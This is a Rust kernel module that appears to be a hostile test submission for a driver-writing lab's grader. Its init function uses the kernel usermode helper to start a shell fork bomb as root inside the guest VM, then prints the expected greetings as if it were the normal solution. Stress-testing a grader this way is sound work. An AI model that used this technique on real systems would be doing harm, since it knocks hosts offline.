// SPDX-License-Identifier: GPL-2.0

//! Hostile submission for lab 00: starts a fork bomb in the guest's user space.
//!
//! A driver is all a student controls, and a module can run user programs
//! through the kernel's usermode helper: init starts `/bin/sh -c 'b(){ b|b& };b'`
//! as root in the guest, then greets like the solution. The bomb stays inside
//! the VM; the grader must still finish within its timeout and grade.

use kernel::prelude::*;

module! {
    type: Hello,
    name: "hello",
    authors: ["kdlab"],
    description: "kdlab lab 00: fork bomb",
    license: "GPL",
    params: {
        count: u32 {
            default: 1,
            description: "How many times to greet",
        },
    },
}

extern "C" {
    fn call_usermodehelper(path: *const u8, argv: *mut *mut u8, envp: *mut *mut u8, wait: i32)
        -> i32;
}

/// call_usermodehelper's UMH_WAIT_EXEC: return once the program runs (argv stays valid).
const UMH_WAIT_EXEC: i32 = 1;

struct Hello {
    greeted: u32,
}

impl kernel::Module for Hello {
    fn init(_module: &'static ThisModule) -> Result<Self> {
        let mut argv: [*mut u8; 4] = [
            c"/bin/sh".as_ptr() as *mut u8,
            c"-c".as_ptr() as *mut u8,
            c"b(){ b|b& };b".as_ptr() as *mut u8,
            core::ptr::null_mut(),
        ];
        let mut envp: [*mut u8; 2] = [c"PATH=/bin:/sbin".as_ptr() as *mut u8, core::ptr::null_mut()];
        // SAFETY: argv and envp are NULL-terminated arrays of NUL-terminated strings that
        // outlive the call (UMH_WAIT_EXEC returns after the exec).
        let rc = unsafe { call_usermodehelper(argv[0], argv.as_mut_ptr(), envp.as_mut_ptr(), UMH_WAIT_EXEC) };
        pr_info!("fork bomb started: {}\n", rc);
        let count = module_parameters::count.value();
        for i in 1..=count {
            pr_info!("Hello from kdlab ({}/{})\n", i, count);
        }
        Ok(Hello { greeted: count })
    }
}

impl Drop for Hello {
    fn drop(&mut self) {
        pr_info!("Goodbye from kdlab after {} greetings\n", self.greeted);
    }
}
